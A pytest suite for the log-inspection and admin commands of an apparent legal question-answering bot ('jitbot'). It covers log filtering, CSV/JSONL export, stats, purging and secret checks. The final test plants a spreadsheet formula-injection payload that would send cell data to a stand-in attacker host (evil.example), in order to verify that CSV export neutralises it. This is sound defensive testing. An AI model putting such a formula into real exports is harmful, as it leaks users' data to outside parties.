"""`jitbot logs` and `jitbot admin` through click's CliRunner, with a temporary data directory."""

from __future__ import annotations

import csv
import io
import json

import pytest
from click.testing import CliRunner

from bot.cli import main
from bot.services import Services
from bot.settings import load_settings
from retrieval.answer import Citation

GAP = "Can Zorblax extradite a suspect from Peru?"


@pytest.fixture
def data_dir(tmp_path):
    """A log with one answered question (rated 👎) and one unanswered question."""
    path = tmp_path / "data"
    query_log = Services(load_settings(data_dir=path)).query_log
    cited = Citation(rank=1, document_id="jit-guide", title="JIT Practical Guide", locator="para. 12",
                     text="", score=0.62, passage_id="jit-guide@v3#12", version=3)
    answered = query_log.record(question="Who signs the JIT agreement?", answer="The competent authorities. [1]",
                                citations=[cited], latency_ms=250, user_id=77, role="prosecutor",
                                chat_type="private", front_end="telegram")
    query_log.record(question=GAP, abstained=True, latency_ms=90, front_end="cli", role="operator", chat_type="cli")
    query_log.record_feedback(answered, -1, user_id=77)
    return path


def run(data_dir, *args, input=None):
    return CliRunner().invoke(main, ["--data-dir", str(data_dir), *args], input=input)


def test_list_with_filters(data_dir):
    result = run(data_dir, "logs", "list")
    assert result.exit_code == 0, result.output
    lines = result.stdout.splitlines()
    assert len(lines) == 2 and GAP in lines[0] and "not answered" in lines[0]
    assert "👎1" in lines[1] and "prosecutor" in lines[1]
    assert GAP in run(data_dir, "logs", "list", "--abstained").stdout
    negative = run(data_dir, "logs", "list", "--feedback", "negative", "--json")
    assert [r["question"] for r in json.loads(negative.stdout)] == ["Who signs the JIT agreement?"]
    assert "No logged questions match." in run(data_dir, "logs", "list", "--search", "Everest").stdout
    assert "Zorblax" in run(data_dir, "logs", "list", "--search", "zorblax", "--since", "1d").stdout


def test_bad_since_is_one_clear_line(data_dir):
    result = run(data_dir, "logs", "list", "--since", "yesterday-ish")
    assert result.exit_code == 2
    assert "cannot read --since 'yesterday-ish'" in result.stderr and "Traceback" not in result.output


def test_export_csv_and_jsonl(data_dir, tmp_path):
    result = run(data_dir, "logs", "export", "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert [r["question"] for r in rows] == ["Who signs the JIT agreement?", GAP]  # oldest first
    assert rows[0]["feedback_down"] == "1" and json.loads(rows[0]["citations"])[0]["locator"] == "para. 12"
    assert rows[0]["user"] and rows[0]["user"] != "77"
    output = tmp_path / "log.jsonl"
    result = run(data_dir, "logs", "export", "-o", str(output))
    assert "2 questions exported." in result.stderr
    first = json.loads(output.read_text().splitlines()[0])
    assert first["citations"][0]["document_id"] == "jit-guide" and first["citations"][0]["version"] == 3


def test_stats(data_dir):
    result = run(data_dir, "logs", "stats")
    assert result.exit_code == 0, result.output
    assert "Questions: 2 (0 refused or failed)" in result.stdout
    assert "Not answered: 1 of 2 answered (50.0%)" in result.stdout
    assert "Feedback: 0 👍, 1 👎 (0.0% positive)" in result.stdout
    assert "Latency: p50 90 ms, p95 250 ms" in result.stdout
    assert "1  jit-guide  JIT Practical Guide" in result.stdout
    assert f"1×  {GAP}" in result.stdout
    figures = json.loads(run(data_dir, "logs", "stats", "--days", "7", "--json").stdout)
    assert figures["questions"] == 2 and len(figures["days"]) == 7 and figures["abstention_rate"] == 0.5


def test_path_and_purge(data_dir):
    assert run(data_dir, "logs", "path").stdout.strip() == str(data_dir / "logs.db")
    result = run(data_dir, "logs", "purge")
    assert result.stdout.strip() == "Purged 0 questions older than 90 days."
    query_log = Services(load_settings(data_dir=data_dir)).query_log
    query_log.db.execute("UPDATE queries SET time = '2020-01-01T00:00:00.000+00:00' WHERE id = 1")
    assert run(data_dir, "logs", "purge", "--days", "30").stdout.strip() == "Purged 1 question older than 30 days."
    assert len(json.loads(run(data_dir, "logs", "list", "--json").stdout)) == 1


def test_off_mode_says_why_the_list_is_empty(tmp_path, monkeypatch):
    monkeypatch.setenv("JITBOT_QUERY_LOG", "off")
    result = run(tmp_path / "data", "logs", "list")
    assert result.exit_code == 0
    assert "only daily counts are kept" in result.stderr


def test_hash_password_and_serve_needs_one(tmp_path, monkeypatch):
    from datasette_auth_passwords.utils import verify_password

    result = CliRunner().invoke(main, ["admin", "hash-password"], input="correct horse\ncorrect horse\n")
    assert result.exit_code == 0, result.output
    password_hash = result.stdout.strip().splitlines()[-1]
    assert verify_password("correct horse", password_hash) and not verify_password("wrong", password_hash)
    short = CliRunner().invoke(main, ["admin", "hash-password", "--password", "short"])
    assert short.exit_code == 1 and "at least 8 characters" in short.stderr

    monkeypatch.delenv("JITBOT_ADMIN_PASSWORD_HASH", raising=False)
    refused = run(tmp_path, "admin", "serve")
    assert refused.exit_code == 1 and "JITBOT_ADMIN_PASSWORD_HASH is not set" in refused.stderr
    monkeypatch.setenv("JITBOT_ADMIN_PASSWORD_HASH", "hunter2")
    malformed = run(tmp_path, "admin", "serve")
    assert malformed.exit_code == 1 and "is not a password hash" in malformed.stderr


def test_serve_refuses_to_start_without_a_log_secret(tmp_path, monkeypatch):
    monkeypatch.delenv("JITBOT_LOG_SECRET", raising=False)
    monkeypatch.setenv("JITBOT_TELEGRAM_TOKEN", "123:abc")
    result = run(tmp_path, "serve")
    assert result.exit_code == 1
    assert result.stderr.startswith("Error: JITBOT_LOG_SECRET is not set") and "\n" == result.stderr[-1]
    assert not (tmp_path / "logs.db").exists()


def test_a_short_log_secret_is_an_invalid_setting(tmp_path, monkeypatch):
    monkeypatch.setenv("JITBOT_LOG_SECRET", "too-short")
    result = run(tmp_path, "logs", "path")
    assert result.exit_code == 1 and "at least 16 characters" in result.stderr


def test_csv_export_neutralises_a_question_planted_as_a_formula(tmp_path):
    path = tmp_path / "data"
    planted = '=HYPERLINK("https://evil.example/?leak="&A1,"Sources")'
    Services(load_settings(data_dir=path)).query_log.record(question=planted, abstained=True, latency_ms=5,
                                                            front_end="cli", role="operator", chat_type="cli")
    result = run(path, "logs", "export", "--format", "csv")
    row = next(csv.DictReader(io.StringIO(result.stdout)))
    assert row["question"] == "'" + planted
